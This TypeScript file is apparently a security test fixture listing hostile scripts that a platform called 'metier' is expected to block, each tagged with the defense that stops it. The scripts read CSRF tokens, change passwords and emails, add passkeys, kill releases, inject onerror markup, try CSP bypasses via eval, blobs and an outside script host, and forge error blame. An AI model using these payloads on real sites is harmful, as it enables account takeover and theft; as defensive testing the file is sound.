import type { AttackOnPeople } from './attack-on-people';

const CALL = `(path, method = 'GET', { ticket, ...body } = {}) => fetch(path, {
  method,
  headers: {
    'content-type': 'application/json',
    'x-csrftoken': decodeURIComponent(/csrftoken=([^;]*)/.exec(document.cookie)?.[1] ?? ''),
    ...(ticket && { 'x-metier-page': ticket }),
  },
  ...(method !== 'GET' && { body: JSON.stringify(body) }),
}).then((reply) => { if (reply.ok) steal(method + path); return reply; })`;

const CASES = '/api/moderation/cases/';
const PASSWORD = `'/api/auth/account/password/', 'PUT', { current_password: 'metier-demo', password: 'a longer walk by the lake' }`;
const TICKET = `JSON.parse(document.getElementById('metier').textContent).ticket`;

/** Code that uses the rights of the operator who sees its page. */
export const ATTACKS_ON_RIGHTS: readonly AttackOnPeople[] = [
  {
    does: 'reads what operators moderate',
    heldBy: 'the server, which asks for the page of operators',
    onMount: `(${CALL})('${CASES}')`,
  },
  {
    does: 'reads it with the ticket of its own page',
    heldBy: 'the server, which asks for the page of operators',
    onMount: `(${CALL})('${CASES}', 'GET', { ticket: ${TICKET} })`,
  },
  {
    does: 'reads it with a ticket of the registry',
    heldBy: 'the server, whose registry gives tickets for reports alone',
    onMount: `
      for (const page of ['/dashboard', '/account', '/operator/cases'])
        fetch('/api/registry/?page=' + page).then((reply) => reply.json()).then(({ ticket }) => {
          (${CALL})('${CASES}', 'GET', { ticket });
          (${CALL})('/api/auth/two-step/', 'POST', { ticket });
        })`,
  },
  {
    does: 'takes the ticket out of the page of operators',
    heldBy: 'the server, which gives it to no script',
    onMount: `
      for (const page of ['/dashboard', '/account', '/operator', '/platform', '/%61ccount', '/account/', '//account', '/x/../account'])
        fetch(page, { headers: { accept: 'text/html' } }).then(async (reply) => /"document":"/.test(await reply.text()) && steal(page))`,
  },
  {
    does: 'takes it with a request for a document',
    heldBy: 'the server, which gives it to no script',
    onMount: `
      const request = new XMLHttpRequest();
      request.responseType = 'document';
      request.onload = () => { if (request.response?.getElementById('metier')) steal('document'); };
      request.open('GET', '/account');
      request.send()`,
  },
  {
    does: 'takes it out of a frame, an object and an embedded page',
    heldBy: 'the server, which gives it to no frame',
    onMount: `
      for (const [name, address] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src']]) {
        const held = Object.assign(document.createElement(name), { [address]: '/account' });
        held.onload = () => { if (held.contentDocument?.getElementById('metier')) steal(name); };
        document.querySelector('main').append(held);
      }`,
  },
  {
    does: 'takes it out of a window',
    heldBy: 'the opener policy',
    onClick: `
      for (const page of ['/account', '/dashboard']) {
        const held = window.open(page);
        setInterval(() => { if (held.document?.getElementById('metier')?.textContent.includes('"document"')) steal(page); }, 20);
      }`,
  },
  {
    does: 'has a worker do it that outlives the page',
    heldBy: 'the server, which asks for the page of operators',
    atLoad: `
      if (!self.document) {
        self.onconnect = () => {};
        for (const page of ['${CASES}', '/account', '/login'])
          fetch(page, { headers: { accept: 'text/html' } }).then((reply) => reply.ok && fetch('/stolen?' + page));
      }`,
    onMount: `new SharedWorker(ENTRY)`,
  },
  {
    does: 'changes the password, which it knows',
    heldBy: 'the server, which asks for the page of the account',
    onMount: `(${CALL})(${PASSWORD}); (${CALL})('/api/auth/account/email/', 'PUT', { current_password: 'metier-demo', email: 'thief@example.ch' })`,
  },
  {
    does: 'adds a passkey',
    heldBy: 'the server, which asks for the page of the account',
    onMount: `(${CALL})('/api/auth/passkeys/options/', 'POST', { current_password: 'metier-demo' }); (${CALL})('/api/auth/passkeys/', 'POST', {})`,
  },
  {
    does: 'signs the person out elsewhere',
    heldBy: 'the server, which asks for the page of the account',
    onMount: `(${CALL})('/api/auth/sessions/', 'DELETE')`,
  },
  {
    does: 'changes the password by a form',
    heldBy: 'the server, which reads no forms there',
    onMount: `
      const frame = document.querySelector('main').appendChild(Object.assign(document.createElement('iframe'), { name: 'sent' }));
      const form = Object.assign(document.createElement('form'), { action: '/api/auth/account/password/', method: 'post', target: 'sent' });
      for (const [name, value] of [['current_password', 'metier-demo'], ['password', 'a longer walk by the lake'], ['_method', 'PUT']])
        form.append(Object.assign(document.createElement('input'), { name, value }));
      document.querySelector('main').append(form);
      form.submit()`,
  },
  {
    does: 'moves a release with the operator’s cookies',
    heldBy: 'the server, where no cookie carries rights of a team',
    onMount: `(${CALL})('/api/releases/moves/', 'POST', { remote: 'mf-seeker', channel: 'production', action: 'kill', reason: 'x' })`,
  },
  {
    does: 'makes a team token and approves it',
    heldBy: 'the server, where no cookie carries rights of a team',
    onMount: `
      (${CALL})('/api/releases/tokens/', 'POST', { name: 'thief', remote: '*' });
      (${CALL})('/api/releases/approvals/1/', 'PUT', { response: {} })`,
  },
  {
    does: 'agrees to a release link for the person',
    heldBy: 'the server, which asks for the page of the link',
    onMount: `
      const release = 'mf-hostile@' + ENTRY.split('/')[3];
      fetch('/?release=' + release, { headers: { accept: 'text/html' } }).then((reply) => reply.ok && steal('link'));
      (${CALL})('/api/releases/links/', 'POST', { release, ticket: ${TICKET} })`,
  },
  {
    does: 'presses the button of a release link in a window',
    heldBy: 'the opener policy',
    onClick: `
      const held = window.open('/?release=mf-hostile@' + ENTRY.split('/')[3]);
      setInterval(() => { const button = held.document?.querySelector('main button'); if (button) { button.click(); steal('pressed'); } }, 20)`,
  },
  {
    does: 'makes code of texts',
    heldBy: 'the content security policy',
    onMount: `
      for (const make of [Function, openRealm().Function, eval]) try { make("new Image().src = '/stolen?text'")(); } catch {}
      try { setTimeout("new Image().src = '/stolen?timer'"); } catch {}
      try { location.href = "javascript:new Image().src = '/stolen?address'"; } catch {}`,
  },
  {
    does: 'loads scripts that have no hash',
    heldBy: 'the content security policy',
    onMount: `
      const blob = URL.createObjectURL(new Blob(["fetch('/stolen?blob')"], { type: 'text/javascript' }));
      for (const address of [blob, 'data:text/javascript,steal', ENTRY, 'http://elsewhere.invalid/a.js']) {
        try { document.head.append(Object.assign(document.createElement('script'), { src: address, onload: () => steal('script') })); } catch {}
        try { new Worker(address).onmessage = () => steal('worker'); } catch {}
      }
      try { new Worker(blob); } catch {}
      import(blob).then(() => steal('import'), () => {})`,
  },
  {
    does: 'writes markup with a handler, an import map and rules of speculation',
    heldBy: 'Trusted Types and the content security policy',
    onMount: `
      const main = document.querySelector('main');
      try { main.insertAdjacentHTML('beforeend', "<img src=/none onerror=steal(1)>"); } catch {}
      try { main.innerHTML = "<img src=/none onerror=\\"new Image().src='/stolen?markup'\\">"; } catch {}
      try { const image = document.createElement('img'); image.setAttribute('onerror', "new Image().src='/stolen?handler'"); image.src = '/none'; main.append(image); } catch {}
      for (const type of ['importmap', 'speculationrules', ''])
        try { document.head.append(Object.assign(document.createElement('script'), { type, text: "new Image().src='/stolen?inline'" })); } catch {}`,
  },
  {
    does: 'deletes the CSRF token through another realm',
    heldBy: 'the server, which gives a new one',
    onMount: `openRealm().document.cookie = 'csrftoken=; Max-Age=0; Path=/'`,
  },
  {
    does: 'puts the blame on another release',
    heldBy: 'the shell',
    onMount: `
      const seeker = JSON.parse(document.getElementById('metier').textContent).registry.remotes.find(({ name }) => name === 'mf-public');
      const forged = Object.assign(new Error('Blamed'), { stack: 'Error: Blamed\\n    at page (' + location.origin + seeker.entry + ':1:1)' });
      setTimeout(() => { throw forged; });
      Promise.reject(forged);
      window.dispatchEvent(new ErrorEvent('error', { error: forged, message: 'Blamed', filename: seeker.entry }))`,
  },
];
